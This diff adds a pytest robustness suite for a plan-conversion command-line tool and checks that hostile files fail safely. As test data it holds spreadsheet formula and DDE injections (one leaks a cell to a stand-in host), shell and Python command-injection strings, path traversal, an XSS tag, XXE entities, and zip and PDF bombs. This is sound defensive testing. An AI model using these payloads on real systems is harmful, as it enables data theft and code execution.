@@ -1,0 +1,863 @@
+"""Hostile and broken inputs through the real ``planharvest convert``: nothing crashes,
+nothing is lost, nothing leaks.
+
+Every bad input is generated at test time (``tests/hostile_inputs.py``) next to
+good documents, and the real command runs over the folder (click's CliRunner,
+or a subprocess where a process must be killed or may hang). For each one the
+batch must finish with exit status 1, list that file as ``failed`` (or
+``skipped``) in ``documents.csv`` with a reason a person understands, convert
+the good files, and print no traceback unless ``--debug`` is given.
+
+Tests marked ``xfail(strict=True)`` show a defect whose fix belongs in a file
+this suite does not own; the reason names the file. Once the fix is in, the
+test passes, pytest reports XPASS as a failure, and the mark must go.
+Slow cases (``@pytest.mark.slow``) are run by ``bench/robustness.py``.
+"""
+
+from __future__ import annotations
+
+import csv
+import functools
+import json
+import os
+import random
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pyarrow.parquet as pq
+import pytest
+from click.testing import CliRunner, Result
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from planharvest import pipeline
+from planharvest.cli import main
+from planharvest.export.columns import columns
+from planharvest.extract.actions import assemble_actions
+from planharvest.extract.grid import Cell, DocumentContent, Paragraph, Row, Table
+from planharvest.extract.headers import ACTION_FIELDS, context_field, fold_label, map_header_row
+from planharvest.model import Action, DocumentRecord, ReviewItem
+from planharvest.normalise.actions import Registries, Source, normalise_actions
+from planharvest.normalise.deadlines import plan_period
+from planharvest.normalise.indicators import IndicatorRegistry, canonical_code, find_indicators
+from planharvest.normalise.owners import OwnerRegistry, cluster_unmatched, parse_owners
+from planharvest.normalise.rag import parse_rag
+from planharvest.normalise.refs import normalise_ref, split_multi_refs
+from planharvest.normalise.text import clean_text
+from planharvest.settings import Settings
+from tests import hostile_inputs as hostile
+
+ROOT = Path(__file__).resolve().parent.parent
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+OUTPUT_FILES = ("actions.csv", "actions.parquet", "actions.json", "review.csv", "documents.csv",
+                "report.html", "datapackage.json")
+CSV_MODELS = {"actions.csv": Action, "review.csv": ReviewItem, "documents.csv": DocumentRecord}
+
+
+# -- running the command ----------------------------------------------------------------
+
+
+def convert(inputs: list[Path], out: Path, *options: str) -> Result:
+    """``planharvest convert`` in this process; a crash (any exception but the command's own
+    exit) fails the test, because a user would see it as a traceback."""
+    result = CliRunner().invoke(
+        main, ["convert", *map(str, inputs), "--out", str(out), "--workers", "1", *options])
+    if result.exception is not None and not isinstance(result.exception, SystemExit):
+        raise AssertionError("convert crashed") from result.exception
+    return result
+
+
+#: Runs the CLI with optional faults injected by environment variables:
+#: KILL_BEFORE_REPLACING=name SIGKILLs the process as it is about to rename ``name`` into
+#: place (the moment an atomic write commits); DIE_READING=text SIGKILLs the worker that
+#: starts reading a file whose name contains ``text`` (a worker killed for memory).
+_FAULTY_CLI = """
+import os, signal, sys
+from pathlib import Path
+kill_before = os.environ.get("KILL_BEFORE_REPLACING")
+if kill_before:
+    real_replace = os.replace
+    def replace(source, target, *args, **kwargs):
+        if Path(target).name == kill_before:
+            os.kill(os.getpid(), signal.SIGKILL)
+        return real_replace(source, target, *args, **kwargs)
+    os.replace = replace
+die_reading = os.environ.get("DIE_READING")
+if die_reading:
+    import planharvest.pipeline as pipeline
+    real_read = pipeline.read_content
+    def read_content(path, *args, **kwargs):
+        if die_reading in Path(path).name:
+            os.kill(os.getpid(), signal.SIGKILL)
+        return real_read(path, *args, **kwargs)
+    pipeline.read_content = read_content
+from planharvest.cli import main
+sys.exit(main())
+"""
+
+
+def run_cli(args: list[str], timeout: float = 60, **faults: str) -> subprocess.CompletedProcess:
+    """The CLI in a child process (``faults``: see ``_FAULTY_CLI``)."""
+    env = {**os.environ, "PYTHONPATH": str(ROOT), **faults}
+    return subprocess.run([sys.executable, "-c", _FAULTY_CLI, *args], capture_output=True,
+                          text=True, timeout=timeout, env=env, cwd=ROOT)
+
+
+def read_csv(path: Path) -> list[dict[str, str]]:
+    with path.open(newline="", encoding="utf-8-sig") as handle:
+        return list(csv.DictReader(handle))
+
+
+def documents(out: Path) -> dict[str, dict[str, str]]:
+    return {row["path"]: row for row in read_csv(out / "documents.csv")}
+
+
+def good_inputs(folder: Path) -> list[Path]:
+    """A Word and a PDF action plan of three actions each."""
+    folder.mkdir(parents=True, exist_ok=True)
+    return [hostile.action_plan_docx(folder / "good.docx"),
+            hostile.action_plan_pdf(folder / "good.pdf")]
+
+
+def assert_good_converted(out: Path) -> None:
+    listed = documents(out)
+    for name in ("good.docx", "good.pdf"):
+        assert listed[name]["status"] == "ok", listed[name]
+        assert listed[name]["actions_found"] == "3"
+
+
+def files_under(folder: Path) -> set[Path]:
+    return {path for path in folder.rglob("*") if not path.is_dir()}
+
+
+# -- every bad input in one batch ----------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Result, Path, dict]:
+    """One convert over every catalogued bad input plus two good plans."""
+    folder = tmp_path_factory.mktemp("hostile")
+    made = {case.name: case.make(folder) for case in hostile.CASES}
+    good_inputs(folder)
+    out = tmp_path_factory.mktemp("out")
+    return convert([folder], out), out, made
+
+
+def test_the_batch_finishes_with_status_1_and_no_traceback(hostile_run) -> None:
+    result, out, _ = hostile_run
+    assert result.exit_code == 1
+    assert "Traceback" not in result.stderr
+    assert_good_converted(out)
+    for name in OUTPUT_FILES:
+        assert (out / name).exists(), name
+
+
+#: Catalogued cases whose reason is not yet the clear one (the fix is in another file).
+_REASON_GAPS = {
+    "zero-byte files": "pipeline.process_document calls an empty file 'not PDF, Word, "
+                       "OpenDocument or RTF'; it should say the file is empty",
+    "PDF with a damaged page tree": "pdf.read_pdf: `with pdf:` closes the PDF, pdfplumber's "
+                                    "close() lists the pages again and its PdfminerException "
+                                    "replaces the PdfError: 'internal error ... 0'",
+    "PDFs with a malformed or missing page size": "pdf.read_pdf catches PdfminerException "
+                                                  "only; pdfplumber raises MalformedPDFException "
+                                                  "or TypeError for a bad /MediaBox",
+}
+
+
+@pytest.mark.parametrize("case", [
+    pytest.param(case, id=case.name, marks=[pytest.mark.xfail(reason=_REASON_GAPS[case.name],
+                                                              strict=True)]
+                 if case.name in _REASON_GAPS else [])
+    for case in hostile.CASES
+])
+def test_each_bad_input_is_listed_with_its_reason(hostile_run, case: hostile.HostileCase) -> None:
+    result, out, made = hostile_run
+    listed = documents(out)
+    for path in made[case.name]:
+        row = listed[path.name]
+        assert row["status"] == case.status, row
+        if case.status == "failed":
+            assert case.reason.lower() in row["error"].lower(), row["error"]
+            assert not row["error"].startswith("internal error"), row["error"]
+            assert f"failed: {path.name}: " in result.stderr
+
+
+def test_zero_byte_and_random_files_fail_without_a_crash(hostile_run) -> None:
+    _, out, made = hostile_run
+    listed = documents(out)
+    for path in made["zero-byte files"] + made["random bytes"]:
+        assert listed[path.name]["status"] == "failed"
+        assert listed[path.name]["error"]
+
+
+def test_a_deep_nest_of_tables_is_read_and_the_outer_table_gives_its_action(hostile_run) -> None:
+    _, out, made = hostile_run
+    (path,) = made["tables nested 60 deep"]
+    row = documents(out)[path.name]
+    assert row["tables_found"] == "61" and row["actions_found"] == "1"
+
+
+def test_pdfs_cut_short_at_many_offsets_all_fail_with_a_reason(tmp_path: Path) -> None:
+    sample = hostile.SAMPLES / "003_tower_hamlets_draft.pdf"
+    cut = hostile.truncated_copies(sample, tmp_path / "in", count=24) if sample.exists() else []
+    if not cut:
+        pytest.skip("samples/003_tower_hamlets_draft.pdf is missing")
+    good_inputs(tmp_path / "in")
+    result = convert([tmp_path / "in"], tmp_path / "out")
+    assert result.exit_code == 1 and "Traceback" not in result.stderr
+    listed = documents(tmp_path / "out")
+    assert_good_converted(tmp_path / "out")
+    for path in cut:
+        row = listed[path.name]
+        # pdfminer may rebuild a damaged file; either it reads or it says why it cannot.
+        assert row["status"] in ("ok", "failed"), row
+        if row["status"] == "failed":
+            assert row["error"] and not row["error"].startswith("internal error"), row["error"]
+
+
+def test_a_pdf_with_an_empty_user_password_is_read_like_any_viewer_reads_it(
+        tmp_path: Path) -> None:
+    # Only an owner password (printing and copying restricted): viewers open it without
+    # asking, so it is a readable plan, not a failure.
+    hostile.action_plan_pdf(tmp_path / "in" / "restricted.pdf", passwords=hostile.PdfPasswords(""))
+    hostile.action_plan_pdf(tmp_path / "plain" / "restricted.pdf")
+    convert([tmp_path / "in"], tmp_path / "out")
+    convert([tmp_path / "plain"], tmp_path / "out_plain")
+    row = documents(tmp_path / "out")["restricted.pdf"]
+    assert row["status"] == "ok" and row["actions_found"] == "3"
+
+    def texts(out: Path) -> list[str]:
+        return [row["action"] for row in json.loads((out / "actions.json").read_text())]
+
+    assert texts(tmp_path / "out") == texts(tmp_path / "out_plain")
+
+
+# -- external entities ------------------------------------------------------------------------
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[str, list[bytes]]]:
+    """An HTTP server on localhost that records every request it is sent."""
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(8)
+    server.settimeout(0.2)
+    requests: list[bytes] = []
+    stop = threading.Event()
+
+    def serve() -> None:
+        while not stop.is_set():
+            try:
+                connection, _ = server.accept()
+            except TimeoutError:
+                continue
+            with connection:
+                requests.append(connection.recv(4096))
+                connection.sendall(b"HTTP/1.0 200 OK\r\n\r\nLEAKED-OVER-THE-NETWORK")
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.getsockname()[1]}", requests
+    stop.set()
+    thread.join()
+    server.close()
+
+
+def test_external_entities_are_neither_read_nor_fetched(tmp_path: Path, listener) -> None:
+    url, requests = listener
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-FILE-CONTENT")
+    folder = tmp_path / "in"
+    folder.mkdir()
+    hostile.external_entities_docx(folder / "xxe.docx", secret, url)
+    result = convert([folder], tmp_path / "out")
+    assert "Traceback" not in result.stderr
+    assert requests == []
+    for path in files_under(tmp_path / "out"):
+        data = path.read_bytes()
+        assert b"TOP-SECRET" not in data and b"LEAKED-OVER" not in data, path
+    (row,) = json.loads((tmp_path / "out" / "actions.json").read_text())
+    assert row["action"] == "Publish the plan file[] net[]"
+
+
+# -- big but legitimate inputs ------------------------------------------------------------------
+
+
+def test_long_documents_and_huge_cells_convert_in_bounded_time(tmp_path: Path) -> None:
+    folder = tmp_path / "in"
+    folder.mkdir()
+    hostile.many_pages_pdf(folder / "pages200.pdf", 200)
+    hostile.dense_text_pdf(folder / "page_of_100k_characters.pdf", 100_000)
+    hostile.huge_cells_docx(folder / "cells_of_100k_characters.docx", 100_000)
+    began = time.perf_counter()
+    result = convert([folder], tmp_path / "out")
+    assert time.perf_counter() - began < 60
+    assert result.exit_code == 0, result.stderr
+    listed = documents(tmp_path / "out")
+    assert listed["pages200.pdf"]["pages"] == "200"
+    assert listed["pages200.pdf"]["actions_found"] == "400"
+    assert listed["page_of_100k_characters.pdf"]["status"] == "ok"
+    assert listed["cells_of_100k_characters.docx"]["actions_found"] == "1"
+
+
+@pytest.mark.xfail(reason="stitch._NUMBERED reads references of at most three digits: from "
+                          "A1000 on, each page's first row is taken for the rest of the row "
+                          "above and joined to it (a 2,000-page plan lost 1,332 rows)",
+                   strict=True)
+def test_references_past_999_are_not_joined_across_pages(tmp_path: Path) -> None:
+    hostile.many_pages_pdf(tmp_path / "in" / "long.pdf", 10, first=991)
+    convert([tmp_path / "in"], tmp_path / "out")
+    rows = json.loads((tmp_path / "out" / "actions.json").read_text())
+    refs = [row["action_ref"] for row in rows]
+    assert refs == [f"A{n}" for n in range(991, 1011)]
+
+
+# -- the file system: links, special files, odd names ------------------------------------------
+
+
+@pytest.mark.xfail(reason="pipeline.discover: Path.resolve() raises RuntimeError on a symlink "
+                          "loop and the whole run stops with a traceback", strict=True)
+def test_a_folder_with_symlink_loops_finishes(tmp_path: Path) -> None:
+    folder = tmp_path / "in"
+    loops = hostile.symlink_loop(folder)
+    good_inputs(folder)
+    result = convert([folder], tmp_path / "out")
+    assert result.exit_code == 1 and "Traceback" not in result.stderr
+    listed = documents(tmp_path / "out")
+    assert_good_converted(tmp_path / "out")
+    for path in loops:
+        assert listed[path.name]["status"] in ("failed", "skipped")
+        assert "link" in listed[path.name]["error"]
+
+
+@pytest.mark.xfail(reason="pipeline: a named pipe blocks sha256_of's open() for ever and a link "
+                          "to /dev/zero is hashed for ever; only regular files should be read",
+                   strict=True)
+def test_pipes_and_links_to_devices_are_skipped_not_read_for_ever(tmp_path: Path) -> None:
+    folder = tmp_path / "in"
+    specials = hostile.special_files(folder)
+    good_inputs(folder)
+    try:
+        finished = run_cli(["convert", str(folder), "--out", str(tmp_path / "out"),
+                            "--workers", "1"], timeout=12)
+    except subprocess.TimeoutExpired:
+        pytest.fail("convert hung on a named pipe or a device")
+    assert finished.returncode in (0, 1) and "Traceback" not in finished.stderr
+    listed = documents(tmp_path / "out")
+    for path in specials:
+        assert listed[path.name]["status"] in ("failed", "skipped")
+        assert listed[path.name]["error"]
+    assert "regular file" in listed["pipe.pdf"]["error"]
+
+
+@pytest.fixture(scope="module")
+def odd_names_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Result, Path, Path]:
+    """Good plans under every odd name, converted; the whole temporary tree is watched."""
+    root = tmp_path_factory.mktemp("odd")
+    folder = root / "in"
+    folder.mkdir()
+    for name in hostile.ODD_NAMES:
+        hostile.action_plan_docx(folder / name, [("A1", "Hold a meeting", "Zorblax Trust",
+                                                  "March 2009")])
+    before = files_under(root)
+    result = convert([folder], root / "out")
+    created = files_under(root) - before
+    outside = {path for path in created if (root / "out") not in path.parents}
+    assert outside == set(), outside
+    return result, root / "out", folder
+
+
+def test_odd_file_names_convert_and_keep_their_true_names(odd_names_run) -> None:
+    result, out, _ = odd_names_run
+    assert result.exit_code == 0, result.stderr
+    records = read_csv(out / "documents.csv")
+    true_paths = sorted(row["path"][1:] if row["path"][:1] == "'" else row["path"]
+                        for row in records)
+    assert true_paths == sorted(hostile.ODD_NAMES)
+    assert all(row["status"] == "ok" for row in records)
+    json_sources = {row["source_file"] for row in json.loads((out / "actions.json").read_text())}
+    assert json_sources == set(hostile.ODD_NAMES)
+    parquet_sources = set(pq.read_table(out / "actions.parquet").column("source_file").to_pylist())
+    assert parquet_sources == set(hostile.ODD_NAMES)
+
+
+def test_odd_file_names_cannot_inject_markup_into_the_report(odd_names_run) -> None:
+    _, out, _ = odd_names_run
+    report = (out / "report.html").read_text(encoding="utf-8")
+    assert "<script>alert(1)</script>" not in report
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in report
+
+
+@pytest.mark.xfail(reason="cli.convert_command echoes file names raw: a name holding a newline "
+                          "or an escape sequence rewrites the user's terminal", strict=True)
+def test_odd_file_names_cannot_rewrite_the_terminal(tmp_path: Path) -> None:
+    folder = tmp_path / "in"
+    folder.mkdir()
+    for name in ("\x1b[2J\x1b[31mred.pdf", "new\nline.pdf"):
+        (folder / name).write_bytes(b"")
+    result = convert([folder], tmp_path / "out")
+    assert "\x1b" not in result.stderr
+    assert all(line.startswith(("failed: ", "skipped: ")) or "documents (" in line
+               for line in result.stderr.splitlines()), result.stderr
+
+
+@pytest.mark.xfail(reason="pipeline.discover keeps a non-UTF-8 file name as surrogates and "
+                          "writers.write_csv dies encoding it: the whole run's outputs are lost",
+                   strict=True)
+def test_a_file_name_that_is_not_utf8_does_not_stop_the_run(tmp_path: Path) -> None:
+    folder = tmp_path / "in"
+    good_inputs(folder)
+    descriptor = os.open(os.fsencode(folder) + b"/" + hostile.NON_UTF8_NAME,
+                         os.O_WRONLY | os.O_CREAT, 0o644)
+    os.write(descriptor, hostile.action_plan_docx(tmp_path / "plan.docx").read_bytes())
+    os.close(descriptor)
+    result = convert([folder], tmp_path / "out")
+    assert result.exit_code == 0, result.stderr
+    assert len(documents(tmp_path / "out")) == 3
+
+
+# -- formula injection -------------------------------------------------------------------------
+
+_FORMULA_ROWS = [
+    ("=1+1", '=HYPERLINK("http://example.invalid/?leak="&A1,"Click") for details', "@SUM(1+1)",
+     "+2009"),
+    ("-1", "-2+3 cmd|' /C calc'!A0", "=Zorblax Trust", "@March 2009"),
+]
+_FORMULA_FILE = '=HYPERLINK("mailto:a@example.invalid","open").docx'
+
+
+@pytest.fixture(scope="module")
+def formula_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("formulas")
+    hostile.action_plan_docx(folder / _FORMULA_FILE, _FORMULA_ROWS)
+    (folder / "=2+2.pdf").write_bytes(b"")  # a failed document with a formula for a name
+    out = tmp_path_factory.mktemp("out")
+    convert([folder], out)
+    return out
+
+
+def _csv_cells(path: Path) -> list[list[str]]:
+    with path.open(newline="", encoding="utf-8-sig") as handle:
+        return list(csv.reader(handle))
+
+
+@pytest.mark.parametrize("name", sorted(CSV_MODELS))
+def test_every_csv_cell_that_a_spreadsheet_would_run_is_neutralised(
+        formula_run: Path, name: str) -> None:
+    cells = [cell for row in _csv_cells(formula_run / name)[1:] for cell in row]
+    assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []
+    # the test means something only if the file had formulas to neutralise
+    assert any(cell.startswith("'") and cell[1:].startswith(FORMULA_START) for cell in cells)
+
+
+def test_parquet_and_json_keep_the_true_values(formula_run: Path) -> None:
+    csv_rows = read_csv(formula_run / "actions.csv")
+    json_rows = json.loads((formula_run / "actions.json").read_text())
+    parquet_rows = pq.read_table(formula_run / "actions.parquet").to_pylist()
+    assert json_rows[0]["source_file"] == parquet_rows[0]["source_file"] == _FORMULA_FILE
+    assert csv_rows[0]["source_file"] == "'" + _FORMULA_FILE
+    checked = 0
+    for csv_row, json_row, parquet_row in zip(csv_rows, json_rows, parquet_rows, strict=True):
+        for spec in columns(Action):
+            if spec.kind not in ("string", "list") or json_row[spec.name] is None:
+                continue
+            true = json_row[spec.name]
+            true = "; ".join(true) if spec.kind == "list" else true
+            assert parquet_row[spec.name] == json_row[spec.name]
+            expected = "'" + true if true.startswith(FORMULA_START) else true
+            assert csv_row[spec.name] == expected, spec.name
+            checked += true.startswith(FORMULA_START)
+    assert checked >= 4
+
+
+def test_review_import_treats_every_cell_as_data(formula_run: Path, tmp_path: Path) -> None:
+    review = read_csv(formula_run / "review.csv")
+    owners_line = next(row for row in review if row["field"] == "owners")
+    hostile_values = ["=cmd|' /C calc'!A0", "../../escaped.txt", "$(touch pwned)",
+                      "__import__('os').system('touch pwned')"]
+    owners_line.update(decision="set", value="; ".join(hostile_values))
+    stray = dict(owners_line, record_id="../../../etc/passwd", decision="accept", value="")
+    filled = tmp_path / "filled.csv"
+    with filled.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(owners_line))
+        writer.writeheader()
+        writer.writerows([owners_line, stray])
+    decisions = tmp_path / "decisions.csv"
+    before = files_under(tmp_path) | files_under(ROOT)
+    imported = CliRunner().invoke(main, ["review", str(formula_run), "--import", str(filled),
+                                         "--decisions", str(decisions), "--reviewer", "=evil"])
+    assert imported.exit_code == 0, imported.output
+    decision_cells = [cell for row in _csv_cells(decisions) for cell in row]
+    assert [cell for cell in decision_cells if cell.startswith(FORMULA_START)] == []
+
+    folder = tmp_path / "again"
+    folder.mkdir()
+    hostile.action_plan_docx(folder / _FORMULA_FILE, _FORMULA_ROWS)
+    result = convert([folder], tmp_path / "out", "--decisions", str(decisions))
+    assert "Traceback" not in result.stderr
+    decided = [row for row in json.loads((tmp_path / "out" / "actions.json").read_text())
+               if row["record_id"] == owners_line["record_id"]]
+    assert decided[0]["owners"] == hostile_values
+    created = (files_under(tmp_path) | files_under(ROOT)) - before
+    assert {path.name for path in created} & {"escaped.txt", "pwned", "passwd"} == set()
+
+
+# -- nothing is lost: atomic outputs under SIGKILL ----------------------------------------------
+
+
+def _flagged_plan(folder: Path, name: str) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    return hostile.action_plan_docx(folder / name, [
+        ("A1", f"Action of {name}", "Zorblax Trust", "March 2009"),
+        ("A2", f"Second action of {name}", "Police", "sometime")])
+
+
+def _problems_in_outputs(out: Path) -> list[str]:
+    """Output files present but not complete (each must parse to the end)."""
+    problems = []
+    for name in OUTPUT_FILES:
+        path = out / name
+        if not path.exists():
+            continue
+        try:
+            if name in CSV_MODELS:
+                header = _csv_cells(path)[0]
+                assert header == [spec.name for spec in columns(CSV_MODELS[name])]
+                assert path.read_bytes().endswith(b"\n")
+            elif name.endswith(".json"):
+                json.loads(path.read_text(encoding="utf-8"))
+            elif name.endswith(".parquet"):
+                pq.read_table(path)
+            else:
+                assert path.read_text(encoding="utf-8").rstrip().endswith("</html>")
+        except Exception as error:  # noqa: BLE001 - any failure to parse is the finding
+            problems.append(f"{name}: {type(error).__name__}: {error}")
+    return problems
+
+
+def _runs_seen(out: Path) -> dict[str, frozenset[str]]:
+    """For each output file, the documents it speaks of: all from one run, or a mixture."""
+    seen = {
+        "documents.csv": frozenset(row["path"] for row in read_csv(out / "documents.csv")),
+        "actions.csv": frozenset(row["source_file"] for row in read_csv(out / "actions.csv")),
+        "actions.json": frozenset(row["source_file"]
+                                  for row in json.loads((out / "actions.json").read_text())),
+        "actions.parquet": frozenset(pq.read_table(out / "actions.parquet")
+                                     .column("source_file").to_pylist()),
+        "review.csv": frozenset(row["source_file"] for row in read_csv(out / "review.csv")),
+    }
+    report = (out / "report.html").read_text(encoding="utf-8")
+    seen["report.html"] = frozenset(name for name in ("alpha.docx", "beta.docx") if name in report)
+    return seen
+
+
+_MIXTURE = pytest.mark.xfail(
+    reason="pipeline.write_outputs replaces each file atomically but one after another: a kill "
+           "between two renames leaves files of two runs; stage them all, then rename",
+    strict=True)
+
+
+@pytest.mark.parametrize("killed_before", [
+    "actions.csv",
+    pytest.param("documents.csv", marks=_MIXTURE),
+    pytest.param("report.html", marks=_MIXTURE),
+    "datapackage.json",
+])
+def test_a_run_killed_while_writing_leaves_one_complete_run(tmp_path: Path,
+                                                           killed_before: str) -> None:
+    first = convert([_flagged_plan(tmp_path / "a", "alpha.docx").parent], tmp_path / "out")
+    assert first.exit_code == 0
+    killed = run_cli(["convert", str(_flagged_plan(tmp_path / "b", "beta.docx").parent),
+                      "--out", str(tmp_path / "out"), "--workers", "1"],
+                     KILL_BEFORE_REPLACING=killed_before)
+    assert killed.returncode == -signal.SIGKILL
+    assert _problems_in_outputs(tmp_path / "out") == []
+    runs = set(_runs_seen(tmp_path / "out").values())
+    assert len(runs) == 1, runs
+
+
+def test_a_review_import_killed_while_saving_keeps_the_previous_decisions(
+        tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    convert([_flagged_plan(tmp_path / "a", "alpha.docx").parent], out)
+    review = read_csv(out / "review.csv")
+    filled = tmp_path / "filled.csv"
+
+    def fill(value: str) -> None:
+        with filled.open("w", newline="", encoding="utf-8") as handle:
+            writer = csv.DictWriter(handle, fieldnames=list(review[0]))
+            writer.writeheader()
+            writer.writerow(dict(review[0], decision="set_all", value=value))
+
+    fill("Police")
+    assert CliRunner().invoke(main, ["review", str(out), "--import", str(filled)]).exit_code == 0
+    saved = (out / "decisions.csv").read_bytes()
+    fill("Probation")
+    killed = run_cli(["review", str(out), "--import", str(filled)],
+                     KILL_BEFORE_REPLACING="decisions.csv")
+    assert killed.returncode == -signal.SIGKILL
+    assert (out / "decisions.csv").read_bytes() == saved
+
+
+@pytest.mark.xfail(reason="pipeline.run_jobs / batch.LazyPool: one worker killed (out of memory, "
+                          "a crash in a C library) breaks the ProcessPoolExecutor and every "
+                          "other document of the batch is failed with BrokenProcessPool",
+                   strict=True)
+def test_a_worker_killed_on_one_document_fails_only_that_document(tmp_path: Path) -> None:
+    folder = tmp_path / "in"
+    good_inputs(folder)
+    for n in range(3):
+        hostile.action_plan_docx(folder / f"more{n}.docx")
+    hostile.action_plan_docx(folder / "kills_its_worker.docx")
+    finished = run_cli(["convert", str(folder), "--out", str(tmp_path / "out"), "--workers", "2"],
+                       DIE_READING="kills_its_worker")
+    assert finished.returncode == 1 and "Traceback" not in finished.stderr
+    listed = documents(tmp_path / "out")
+    assert listed.pop("kills_its_worker.docx")["status"] == "failed"
+    assert {row["status"] for row in listed.values()} == {"ok"}
+
+
+# -- limits ---------------------------------------------------------------------------------------
+
+
+def _convert_with(settings: Settings, folder: Path, out: Path) -> dict[str, DocumentRecord]:
+    options = pipeline.RunOptions(out_dir=out, workers=1, settings=settings, use_cache=False)
+    summary = pipeline.convert([folder], options)
+    return {record.path: record for record in summary.documents}
+
+
+def test_the_zip_limits_are_settable(tmp_path: Path) -> None:
+    hostile.many_entries_docx(tmp_path / "in" / "entries.docx", 60)
+    records = _convert_with(Settings(max_zip_entries=50, max_uncompressed_bytes=10_000),
+                            tmp_path / "in", tmp_path / "out")
+    assert records["entries.docx"].status == "failed"
+    assert "max_zip_entries" in records["entries.docx"].error
+    records = _convert_with(Settings(max_uncompressed_bytes=1_000), tmp_path / "in",
+                            tmp_path / "out2")
+    assert "max_uncompressed_bytes" in records["entries.docx"].error
+
+
+@pytest.mark.xfail(reason="max_pages is never checked: pdf.read_pdf (or document.read_document) "
+                          "must refuse a PDF over settings.max_pages", strict=True)
+def test_a_pdf_over_max_pages_fails_with_that_reason(tmp_path: Path) -> None:
+    hostile.many_pages_pdf(tmp_path / "in" / "long.pdf", 8)
+    records = _convert_with(Settings(max_pages=5), tmp_path / "in", tmp_path / "out")
+    assert records["long.pdf"].status == "failed"
+    assert "max_pages" in records["long.pdf"].error
+
+
+@pytest.mark.xfail(reason="max_seconds_per_document is never checked: pipeline.process_document "
+                          "needs a deadline (SIGALRM in the worker's main thread)", strict=True)
+def test_a_document_over_the_time_limit_fails_with_that_reason(tmp_path: Path) -> None:
+    hostile.many_pages_pdf(tmp_path / "in" / "slow.pdf", 60)
+    hostile.action_plan_docx(tmp_path / "in" / "quick.docx")
+    records = _convert_with(Settings(max_seconds_per_document=0.2), tmp_path / "in",
+                            tmp_path / "out")
+    assert records["slow.pdf"].status == "failed"
+    assert "max_seconds_per_document" in records["slow.pdf"].error
+    assert records["quick.docx"].status == "ok"
+
+
+@pytest.mark.xfail(reason="cli.convert_command has no option for the limits; a user cannot set "
+                          "them (proposed: --max-seconds, --max-pages, --max-megabytes)",
+                   strict=True)
+def test_the_limits_are_settable_on_the_command_line(tmp_path: Path) -> None:
+    hostile.many_pages_pdf(tmp_path / "in" / "long.pdf", 8)
+    result = convert([tmp_path / "in"], tmp_path / "out", "--max-pages", "5",
+                     "--max-seconds", "60", "--max-megabytes", "100")
+    assert result.exit_code == 1, result.output
+    assert "max_pages" in documents(tmp_path / "out")["long.pdf"]["error"]
+
+
+# -- --debug ------------------------------------------------------------------------------
+
+
+def test_an_internal_error_is_one_line_and_debug_shows_the_traceback(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    def broken_reader(*_args: object, **_kwargs: object) -> DocumentContent:
+        raise RuntimeError("a reader bug")
+
+    monkeypatch.setattr(pipeline, "read_content", broken_reader)
+    hostile.action_plan_docx(tmp_path / "in" / "plan.docx")
+    plain = convert([tmp_path / "in"], tmp_path / "out", "--no-cache")
+    assert plain.exit_code == 1
+    assert "RuntimeError: a reader bug" in plain.stderr and "Traceback" not in plain.stderr
+    debug = convert([tmp_path / "in"], tmp_path / "out_debug", "--no-cache", "--debug")
+    assert "Traceback (most recent call last)" in debug.stderr
+
+
+def peak_megabytes_of_convert(folder: Path, out: Path, timeout: float = 300) -> float:
+    """Convert ``folder`` in a child process (one worker: all work in that process) and
+    return the child's peak resident memory."""
+    code = ("import resource, subprocess, sys; subprocess.run(sys.argv[1:]); "
+            "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")
+    measured = subprocess.run(
+        [sys.executable, "-c", code, sys.executable, "-m", "planharvest", "convert", str(folder),
+         "--out", str(out), "--workers", "1", "--no-cache"],
+        capture_output=True, text=True, timeout=timeout, cwd=ROOT,
+        env={**os.environ, "PYTHONPATH": str(ROOT)})
+    return int(measured.stdout.split()[-1]) / 1024
+
+
+@pytest.mark.xfail(reason="report.crop_png renders the whole page (pdfplumber.to_image) before "
+                          "cropping: a 50,000 pt wide page takes ~600 MB, 100,000 pt ~1 GB",
+                   strict=True)
+def test_a_huge_page_does_not_blow_up_memory_when_the_report_pictures_it(tmp_path: Path) -> None:
+    hostile.wide_page_pdf(tmp_path / "in" / "wide.pdf", width=50_000)
+    peak = peak_megabytes_of_convert(tmp_path / "in", tmp_path / "out")
+    assert documents(tmp_path / "out")["wide.pdf"]["status"] == "ok"
+    assert peak < 350, peak
+
+
+# -- slow: full-size cases (pytest -m slow; bench/robustness.py measures them) -----------------
+
+
+@pytest.mark.slow
+def test_zip_bombs_of_gigabytes_are_refused_or_read_without_inflating(tmp_path: Path) -> None:
+    folder = tmp_path / "in"
+    hostile.zip_bomb_docx(folder / "honest.docx", 2 * 2**30)
+    hostile.zip_bomb_docx(folder / "liar.docx", 2 * 2**30, lie=True)
+    hostile.media_bomb_docx(folder / "picture.docx", 500 * 2**20)
+    peak = peak_megabytes_of_convert(folder, tmp_path / "out")
+    listed = documents(tmp_path / "out")
+    assert "max_uncompressed_bytes" in listed["honest.docx"]["error"]
+    assert "damaged" in listed["liar.docx"]["error"]
+    assert listed["picture.docx"]["status"] == "ok"
+    assert peak < 400, peak
+
+
+@pytest.mark.slow
+@pytest.mark.xfail(reason="pdf.read_pdf has no limit on a page's content: 2 kB of deflated "
+                          "text operators become 400,000 characters and ~1 GB; a page whose "
+                          "content inflates past a limit should fail unread", strict=True)
+def test_a_pdf_bomb_fails_before_it_takes_a_gigabyte(tmp_path: Path) -> None:
+    hostile.dense_text_pdf(tmp_path / "in" / "bomb.pdf", 400_000, compress=True)
